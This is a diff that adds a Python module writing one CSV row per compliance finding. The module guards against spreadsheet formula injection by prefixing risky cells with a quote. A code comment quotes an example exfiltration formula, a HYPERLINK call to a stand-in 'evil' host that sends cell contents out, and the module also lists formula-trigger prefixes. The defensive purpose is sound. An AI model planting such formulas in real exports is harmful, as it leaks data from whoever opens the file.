@@ -1,0 +1,52 @@
+"""The CSV report: one row per finding, safe to open in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import json
+from typing import Any, TextIO
+
+COLUMNS = (
+    "rule", "severity", "outcome", "record_type", "record_key", "patient", "time",
+    "source_path", "source_line", "message", "missing", "evidence",
+)
+
+# Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell starting with one of these
+# as a formula, and record values reach the cells (keys, patients, messages quoting fields):
+# an export row like `=HYPERLINK("http://evil/?"&A1)` would run on the officer's machine.
+# csv quoting does not stop it; a leading quote makes the cell literal text (OWASP "CSV
+# Injection"; cloud-custodian's c7n/reports/csvout.py does the same since PR #10836).
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(text: str) -> str:
+    """``text`` with a leading ``'`` when a spreadsheet would read it as a formula."""
+    return "'" + text if text.startswith(FORMULA_PREFIXES) else text
+
+
+def _cell(value: Any) -> str:
+    return "" if value is None else str(value)
+
+
+def _row(finding: dict[str, Any]) -> list[str]:
+    source = finding.get("source") or {}
+    cells = [
+        finding["rule"], finding["severity"], finding["outcome"], finding["record_type"],
+        finding["record_key"], finding.get("patient"), finding.get("time"),
+        source.get("path"), source.get("line"), finding["message"],
+        ";".join(finding.get("missing") or ()),
+        # Sorted, compact keys: one stable cell per finding whatever order the engine used.
+        json.dumps(finding.get("evidence") or {}, sort_keys=True, separators=(",", ":"),
+                   ensure_ascii=False),
+    ]
+    return [neutralise(_cell(c)) for c in cells]
+
+
+def render(report: dict[str, Any], out: TextIO) -> None:
+    """Write one CSV row per finding (fail or waived), in the report's order."""
+    # "\n" rather than csv's default "\r\n": files compare byte for byte across platforms
+    # when ``out`` is opened with newline="". QUOTE_ALL because with that terminator
+    # QUOTE_MINIMAL leaves a bare "\r" in a cell unquoted, and spreadsheets split the row there.
+    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
+    writer.writerow(COLUMNS)
+    writer.writerows(_row(f) for f in report["findings"])
